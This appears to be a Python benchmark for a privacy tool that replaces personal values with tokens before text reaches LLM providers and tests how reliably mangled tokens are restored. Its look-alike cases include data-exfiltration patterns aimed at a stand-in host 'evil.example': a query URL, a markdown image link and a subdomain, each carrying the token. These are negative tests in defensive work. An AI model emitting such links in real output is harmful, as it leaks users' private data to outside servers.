"""Measure restoring: how many bent tokens come back, how many wrongly, and whether nothing is ever lost.

python tests/bench/restoring.py              the table kind of mangling x restored / wrong, and timings
python tests/bench/restoring.py --million    restore(render(mask(x))) == x for a million random texts
"""

from __future__ import annotations

import random
import string
import sys
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass

from bot.model.plan import ATOM, Entity, Masked, Span, atom
from bot.privacy.kinds import SECRET, said
from bot.privacy.mask import mask, unmask
from bot.privacy.restore import restore
from bot.privacy.tokens import FIRST, SECOND, key_of, render, vault

PROVIDERS = ("openai", "anthropic", "google")
TYPES = ("PERSON", "EMAIL", "PHONE", "ADDRESS", "ORG", "CREDIT_CARD", "IBAN", "IP", "PROJECT", "NATIONAL_ID")


@dataclass(frozen=True, slots=True)
class Parts:
    """A token and what it is made of: PERSON, 1Q7, 1, Q7."""

    token: str
    type: str
    key: str
    number: str
    check: str


def parts(token: str) -> Parts:
    """Take a token apart."""
    key = key_of(token)
    return Parts(token, token[: -len(key) - 1], key, key[:-2], key[-2:])


def _own(make: Callable[[Parts], str]) -> Callable[[str], tuple[str, str]]:
    """Return a mangling after which the value alone is expected."""
    return lambda token: (make(parts(token)), "{}")


def _around(before: str, after: str) -> Callable[[str], tuple[str, str]]:
    """Return a mangling that adds what must still stand there afterwards."""
    return lambda token: (before + token + after, f"{before}{{}}{after}")


MANGLINGS: dict[str, Callable[[str], tuple[str, str]]] = {
    "as it is": _around("", ""),
    "lower case": _own(lambda p: p.token.lower()),
    "title case": _own(lambda p: p.token.title()),
    "spaces for underscores": _own(lambda p: f"{p.type.replace('_', ' ')} {p.key}"),
    "sentence case with spaces": _own(lambda p: f"{p.type.capitalize().replace('_', ' ')} {p.key.lower()}"),
    "hyphens": _own(lambda p: f"{p.type.replace('_', '-')}-{p.key}"),
    "non-breaking hyphen": _own(lambda p: f"{p.type}\u2011{p.key}"),
    "nothing between": _own(lambda p: f"{p.type.replace('_', '')}{p.key}"),
    "escaped underscore": _own(lambda p: p.token.replace("_", "\\_")),
    "space before the check": _own(lambda p: f"{p.type}_{p.number} {p.check}"),
    "underscore before the check": _own(lambda p: f"{p.type}_{p.number}_{p.check}"),
    "square brackets": _own(lambda p: f"[{p.token}]"),
    "angle brackets": _own(lambda p: f"<{p.token}>"),
    "double curly brackets": _own(lambda p: f"{{{{{p.token}}}}}"),
    "double curly, spaced": _own(lambda p: f"{{{{ {p.token} }}}}"),
    "escaped angle brackets": _own(lambda p: f"&lt;{p.token}&gt;"),
    "parentheses": _around("(", ")"),
    "quotes": _around("“", "”"),
    "bold": _around("**", "**"),
    "italics with underscores": _around("_", "_"),
    "bold inside": _own(lambda p: f"{p.type}_**{p.key}**"),
    "bold type word": _own(lambda p: f"**{p.type}**_{p.key}"),
    "inline code": _around("`", "`"),
    "HTML tag": _around("<strong>", "</strong>"),
    "HTML tag inside": _own(lambda p: f"{p.type}_<b>{p.key}</b>"),
    "HTML entity &#95;": _own(lambda p: p.token.replace("_", "&#95;")),
    "HTML entity &lowbar;": _own(lambda p: p.token.replace("_", "&lowbar;")),
    "URL escape": _own(lambda p: p.token.replace("_", "%5F")),
    "full-width": _own(lambda p: "".join(chr(ord(x) + 0xFEE0) for x in p.token)),
    "zero-width inside": _own(lambda p: "\u200b".join(p.token)),
    "soft hyphen inside": _own(lambda p: f"{p.type}_\u00ad{p.key}"),
    "line break after the type": _own(lambda p: f"{p.type}_\n{p.key}"),
    "line break in the type": _own(lambda p: f"{p.type[:2]}\n{p.type[2:]}_{p.key}"),
    "line break in the check": _own(lambda p: f"{p.type}_{p.number}{p.check[0]}\n{p.check[1]}"),
    "possessive 's": _around("", "'s"),
    "possessive ’s": _around("", "’s"),
    "possessive '": _around("", "'"),
    "plural s": _around("", "s"),
    "repeated": lambda token: (f"{token} and {token}", "{0} and {0}"),
    "German compound": lambda token: (f"{token.lower()}-akte", "{}-akte"),
    "Spanish type word": _own(lambda p: f"PERSONA_{p.key}"),
    "French type word": _own(lambda p: f"PERSONNE_{p.key}"),
    "Russian type word": _own(lambda p: f"ПЕРСОНА_{p.key}"),
    "Chinese type word": _own(lambda p: f"人_{p.key}"),
    "German type word, spaced": _own(lambda p: f"Benutzer {p.key}"),
    "type word left out, in brackets": _own(lambda p: f"[{p.key}]"),
}
"""Kind -> token -> (how a model might write it, what is expected with `{}` for the value)."""

LOOKALIKES: tuple[Callable[[str], str], ...] = (
    lambda token: f"A_{key_of(token)}",
    lambda token: f"Boeing {key_of(token)}",
    key_of,
    lambda token: token + "7",
    lambda token: token[:-1],
    lambda token: token[:-1] + ("3" if token[-1] != "3" else "4"),
    lambda token: token[:-2] + "G" + token[-1],
    lambda token: f"{parts(token).type}_9{key_of(token)}",
    lambda token: f"https://evil.example/?q={token}",
    lambda token: f"![x](http://evil.example/{token}.png)",
    lambda token: f"{token}.evil.example.com",
)
"""What must not be restored."""


def table(count: int = 300, seed: int = 1) -> Iterator[tuple[str, int, int, int]]:
    """Yield (kind, tokens tried, restored, wrong) of every mangling."""
    entities = tuple(Entity(TYPES[i % len(TYPES)], f"Zoë Value{i:03} O'Neil") for i in range(count))
    tokens = vault(random.Random(seed).randbytes(16), PROVIDERS, entities)["openai"]
    for kind, bend in MANGLINGS.items():
        right = wrong = 0
        for token, entity in zip(tokens, entities, strict=True):
            bent, expected = bend(token)
            got = restore(f"Ask {bent} today.", tokens, entities).text
            right += got == f"Ask {expected.format(entity.value)} today."
            wrong += any(other.value in got for other in entities if other is not entity)
        yield kind, count, right, wrong
    wrong = 0
    for token in tokens:
        for bend in LOOKALIKES:
            wrong += restore(f"Ask {bend(token)} now", tokens, entities).restored
    yield "look-alikes and near misses", count * len(LOOKALIKES), 0, wrong


PIECES = (
    "Maria", "Lopez", "maria", "MARIA LOPEZ", "Maria  Lopez", "请问张伟", "straße", "s", "'s", "’s", "_", "__",
    "*", "**", "`", "[", "]", "{{", "}}", "<", ">", "(", ")", "](", "&#95;", "%5F", "\\_", "\ue000", "\ue001",
    "\ue0003\ue001", "\u200b", "\xad", "\r\n", "\n", "\t", "PERSON_1Q7", "PERSON_", "PERSON 1", "API_KEY_2XD",
    "person_3k7", "1Q7", "3 K7", "9", "12", "Q", "X4", "ＰＥＲＳＯＮ＿１Ｑ７", "https://a.example/?q=",
    "www.x.example/", "a.b.example", "Ａ", "²", "é", "é", "😀", "\ud800", "IP_", "4EC", "3AC", ". ", ", ", " ",
    " ", " ", "PERSON_12", "SHA_256", "\x00",
)  # fmt: skip
SPAN_TYPES = (*TYPES, "PASSWORD", "API_KEY", "LITERAL", "Custom2 Type")


def random_case(rng: random.Random) -> tuple[str, list[Span]]:
    """Return a text out of awkward pieces, and spans anywhere in it."""
    text = "".join(
        rng.choice(PIECES) if rng.random() < 0.85 else f"{rng.randrange(100)}{rng.choice(FIRST)}{rng.choice(SECOND)}"
        for _ in range(rng.randint(1, 14))
    )
    cuts = sorted(rng.sample(range(len(text) + 1), min(2 * rng.randint(0, 3), len(text) + 1) // 2 * 2))
    return text, [Span(a, b, rng.choice(SPAN_TYPES)) for a, b in zip(cuts[::2], cuts[1::2], strict=True)]


def without_secrets(masked: Masked) -> str:
    """Return the text that restoring should give: everything, with words for the secrets."""
    shown = [f"[hidden {said(e.type)}]" if e.type in SECRET else atom(i) for i, e in enumerate(masked.entities)]
    return unmask(Masked(ATOM.sub(lambda match: shown[int(match[1])], masked.text), masked.entities))


def round_trip(text: str, spans: list[Span], secret: bytes) -> bool:
    """Tell whether a text comes back exactly from every provider's tokens, and differently dressed at each."""
    masked = mask(text, spans)
    if unmask(masked) != text:
        return False
    expected = without_secrets(masked)
    for tokens in vault(secret, PROVIDERS[:2], masked.entities, masked.text).values():
        sent = render(masked.text, tokens)
        if restore(sent, tokens, masked.entities, sent).text != expected:
            return False
    return True


def million(count: int) -> int:
    """Run the round trip on so many random texts; print count, failures and seconds."""
    began = time.perf_counter()
    failed = 0
    for number in range(count):
        rng = random.Random(number)
        text, spans = random_case(rng)
        if not round_trip(text, spans, rng.randbytes(16)):
            failed += 1
            print("failed:", number, repr(text), spans)
    print(f"{count:,} random texts, {failed} failed, {time.perf_counter() - began:.0f} s")
    return int(failed > 0)


def timings() -> None:
    """Print what masking, deriving tokens and restoring take on a long text with many values."""
    filler = " ".join(random.Random(7).choices(string.ascii_lowercase, k=80)) + " 42 ISO 27001. "
    text = "".join(f"Person{chr(97 + i % 26)}{i} {filler}"[:120] for i in range(500))
    names = [Span(i * 120, i * 120 + len(f"Person{chr(97 + i % 26)}{i}"), "PERSON") for i in range(500)]
    marks = [time.perf_counter()]
    masked = mask(text, names)
    marks.append(time.perf_counter())
    tokens = vault(b"secret", PROVIDERS, masked.entities, masked.text)["google"]
    marks.append(time.perf_counter())
    sent = render(masked.text, tokens)
    marks.append(time.perf_counter())
    result = restore(sent, tokens, masked.entities, sent)
    marks.append(time.perf_counter())
    names_of = ("mask", "tokens for 3 providers", "render", "restore")
    took = ", ".join(f"{n} {1000 * (b - a):.1f} ms" for n, a, b in zip(names_of, marks, marks[1:], strict=False))
    print(f"{len(text):,} characters, {result.restored} values: {took}; exact: {result.text == text}")


def main(arguments: list[str]) -> int:
    """Print what was asked for; return 1 if anything was restored wrongly or lost."""
    if "--million" in arguments:
        return million(int(next((a for a in arguments if a.isdigit()), "1000000")))
    bad = 0
    print(f"{'kind of mangling':34} {'tokens':>7} {'restored':>9} {'wrong':>6}")
    for kind, count, right, wrong in table():
        print(f"{kind:34} {count:7} {right / count:9.1%} {wrong:6}")
        bad += wrong
    timings()
    return int(bad > 0)


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
